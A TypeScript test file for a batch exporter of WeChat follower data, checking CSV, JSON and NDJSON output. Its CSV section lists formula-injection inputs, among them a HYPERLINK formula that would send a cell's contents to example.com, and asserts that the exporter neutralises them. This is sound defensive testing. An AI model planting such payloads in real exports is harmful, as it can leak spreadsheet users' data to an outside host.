import assert from 'node:assert/strict';
import { parse } from 'csv-parse';
import fc from 'fast-check';
import {
  Batch,
  exportBatch,
  type ExportFormat,
  type ExportOptions,
  type Outcome,
} from '../../../../src/batch';
import { OutcomeTable } from '../../../../src/batch/rows/outcomeTable';

describe('exportBatch', () => {
  const origin = {
    id: 'b',
    appId: 'wx0000000000000000',
    accountName: 'A',
    source: 'a test',
    lang: 'zh_CN',
    startedAt: 0,
  } as const;

  function batchOf(outcomes: readonly Outcome[]): Batch {
    const batch = new Batch(origin, new OutcomeTable(outcomes.map(({ openid }) => openid)), () => 0);
    batch.record(outcomes);
    return batch;
  }

  async function exported(
    outcomes: readonly Outcome[],
    format: ExportFormat,
    options: Partial<ExportOptions> = {},
  ): Promise<string> {
    let text = '';
    for await (const piece of exportBatch(batchOf(outcomes), format, { language: 'en', ...options }))
      text += piece;
    return text;
  }

  /** The cells as an independent reader of CSV sees them, by column name. */
  function readCsv(text: string): Promise<Record<string, string>[]> {
    return new Promise((resolve, reject) => {
      parse<Record<string, string>>(
        text,
        { bom: true, columns: true, record_delimiter: '\r\n' },
        (error, rows) => {
          if (error) reject(error);
          else resolve(rows);
        },
      );
    });
  }

  const follower: Outcome = {
    kind: 'following',
    openid: 'o6_bmjrPTlm6_2sgVt7hMZOPfL2M',
    profile: {
      subscribe: 1,
      openid: 'o6_bmjrPTlm6_2sgVt7hMZOPfL2M',
      language: 'zh_CN',
      subscribe_time: 1382694957,
      unionid: 'oR5GjjgEhCMJFyzaVZdrxZ2zRRF4',
      remark: '老王, "VIP"',
      groupid: 0,
      tagid_list: [128, 2],
      subscribe_scene: 'ADD_SCENE_QR_CODE',
      qr_scene: 98765,
      qr_scene_str: '',
      brand_new: { a: 1 },
    },
  };

  const oneOfEach: readonly Outcome[] = [
    follower,
    { kind: 'notFollowing', openid: 'gone', profile: { openid: 'gone', subscribe: 0 } },
    {
      kind: 'invalid',
      openid: 'bad',
      fault: { errcode: 40003, errmsg: 'invalid openid', endpoint: '/cgi-bin/user/info' },
    },
    { kind: 'notReturned', openid: 'silent' },
    {
      kind: 'failed',
      openid: 'late',
      fault: { reason: 'timeout', detail: 'ETIMEDOUT' },
      profile: { openid: 'late', remark: 'half an answer' },
    },
    { kind: 'pending', openid: 'next' },
  ];

  describe('as CSV', () => {
    it('begins with a BOM, ends every line with CR LF, and has a row for every openid in the order asked', async () => {
      const text = await exported(oneOfEach, 'csv');
      assert.ok(text.startsWith('\uFEFFopenid,outcome,'));
      assert.ok(text.endsWith('\r\n'));
      const rows = await readCsv(text);
      assert.deepEqual(
        rows.map(row => [row.openid, row.outcome]),
        oneOfEach.map(({ openid, kind }) => [openid, kind]),
      );
    });

    it('has decoded columns beside raw ones', async () => {
      const [row] = await readCsv(await exported([follower], 'csv', { tagNames: new Map([[128, '会员']]) }));
      assert.deepEqual(row, {
        openid: 'o6_bmjrPTlm6_2sgVt7hMZOPfL2M',
        outcome: 'following',
        unionid: 'oR5GjjgEhCMJFyzaVZdrxZ2zRRF4',
        followed_at: '2013-10-25T17:55:57+08:00',
        scene: 'QR code scan',
        tags: '会员, 2',
        language_name: 'Simplified Chinese',
        fetched_at: '',
        to_ask_again: '',
        error_code: '',
        error_message: '',
        error_explained: '',
        subscribe: '1',
        subscribe_time: '1382694957',
        subscribe_scene: 'ADD_SCENE_QR_CODE',
        qr_scene: '98765',
        qr_scene_str: '',
        remark: '老王, "VIP"',
        groupid: '0',
        tagid_list: '[128,2]',
        language: 'zh_CN',
        other_fields: '{"brand_new":{"a":1}}',
      });
    });

    it('says when WeChat answered, and who is to be asked for again', async () => {
      const gone: Outcome = {
        kind: 'notFollowing',
        openid: 'gone',
        profile: { openid: 'gone', subscribe: 0 },
      };
      const batch = batchOf([follower, gone]);
      batch.record([gone], Date.UTC(2026, 10, 22, 4, 5, 6, 700));
      batch.rows.askAgain(['notFollowing']);
      let text = '';
      for await (const piece of exportBatch(batch, 'csv', { language: 'en' })) text += piece;
      assert.deepEqual(
        (await readCsv(text)).map(row => [row.fetched_at, row.to_ask_again]),
        [
          ['', ''],
          ['2026-11-22T12:05:06+08:00', 'true'],
        ],
      );
    });

    it('has labels in the display language and times at the offset asked for', async () => {
      const [row] = await readCsv(await exported([follower], 'csv', { language: 'zh-cn', utcOffset: -210 }));
      assert.equal(row?.scene, '扫描二维码');
      assert.equal(row.followed_at, '2013-10-25T06:25:57-03:30');
    });

    it('tells errors by code, message and explanation', async () => {
      const rows = await readCsv(await exported(oneOfEach, 'csv'));
      assert.equal(rows[2]?.error_code, '40003');
      assert.equal(rows[2].error_message, 'invalid openid');
      assert.ok(rows[2].error_explained);
      assert.equal(rows[4]?.error_code, 'timeout');
      assert.equal(rows[4].remark, 'half an answer');
    });

    const hostile = [
      '=1+1',
      '+1',
      '-1',
      '@SUM(A1)',
      '\t=1',
      '\r=1',
      '\n=1',
      '  =1',
      '\u3000＝1',
      '＋1',
      '－1',
      '＠A1',
      '\u200b=1',
      '\ufeff=1',
      '\u0000=1',
      '"=1"',
      'a\r\nb',
      'a,b;c\td',
      '"quoted" ""',
      '👩‍👩‍👧 𠮷',
      '\u202e=1',
      "'=1",
      '=HYPERLINK("http://example.com?"&A1,"x")',
      ' ',
      '',
    ];

    it('gives hostile cells back as they were, an apostrophe before those that begin as a formula', async () => {
      for (const remark of hostile) {
        const outcome = {
          ...follower,
          profile: { ...follower.profile, remark, qr_scene_str: remark, qr_scene: -5 },
        };
        const [row] = await readCsv(await exported([outcome], 'csv'));
        assert.ok(row);
        for (const cell of Object.values(row)) assert.ok(!beginsAsFormula(cell), JSON.stringify(cell));
        const guarded = beginsAsFormula(remark) ? `'${remark}` : remark;
        assert.equal(row.remark, guarded);
        assert.equal(row.qr_scene_str, guarded);
        assert.equal(row.qr_scene, "'-5");
      }
    });

    it('is read back the same whatever people type', async () => {
      await fc.assert(
        fc.asyncProperty(fc.array(fc.string({ unit: 'binary' }), { maxLength: 5 }), async remarks => {
          const outcomes = remarks.map((remark, index): Outcome => {
            const openid = `o${index}`;
            return { kind: 'following', openid, profile: { openid, subscribe: 1, remark } };
          });
          const rows = await readCsv(await exported(outcomes, 'csv'));
          assert.deepEqual(
            rows.map(row => row.remark?.replace(/^'/, '')),
            remarks.map(remark => remark.replace(/^'/, '')),
          );
          assert.ok(!rows.some(row => beginsAsFormula(row.remark ?? '')));
        }),
      );
    });
  });

  describe('as JSON', () => {
    it('is one array, with raw answers and what they mean', async () => {
      const records: unknown = JSON.parse(await exported(oneOfEach, 'json'));
      assert.ok(Array.isArray(records));
      assert.equal(records.length, 6);
      assert.deepEqual(records[0], {
        openid: follower.openid,
        outcome: 'following',
        unionid: 'oR5GjjgEhCMJFyzaVZdrxZ2zRRF4',
        followedAt: '2013-10-25T17:55:57+08:00',
        scene: 'QR code scan',
        tags: ['128', '2'],
        language: 'Simplified Chinese',
        raw: follower.profile,
      });
      assert.deepEqual(records[5], { openid: 'next', outcome: 'pending' });
    });

    it('is an empty array for an empty batch', async () => {
      assert.deepEqual(JSON.parse(await exported([], 'json')), []);
    });

    it('is whole, however many rows there are', async () => {
      const many = Array.from({ length: 1_203 }, (_, index): Outcome => ({
        kind: 'pending',
        openid: `o${index}`,
      }));
      const records: unknown = JSON.parse(await exported(many, 'json'));
      assert.ok(Array.isArray(records));
      assert.equal(records.length, 1_203);
    });
  });

  it('as NDJSON is one object a line', async () => {
    const lines = (await exported(oneOfEach, 'ndjson')).trimEnd().split('\n');
    const array: unknown = JSON.parse(await exported(oneOfEach, 'json'));
    assert.deepEqual(
      lines.map((line): unknown => JSON.parse(line)),
      array,
    );
  });

  it('leaves out a time that no calendar holds', async () => {
    const profile = { openid: 'a', subscribe: 1, subscribe_time: 8.64e12 };
    const [row] = await readCsv(await exported([{ kind: 'following', openid: 'a', profile }], 'csv'));
    assert.equal(row?.followed_at, '');
    assert.equal(row.subscribe_time, '8640000000000');
  });
});

/** As spreadsheets see it: they trim blanks and what cannot be seen, and some take full-width signs for the plain. */
function beginsAsFormula(cell: string): boolean {
  return /^[\t\r\n]/.test(cell) || /^[=+\-@＝＋－＠]/.test(cell.replace(/^[\s\p{C}\p{Z}]+/u, ''));
}
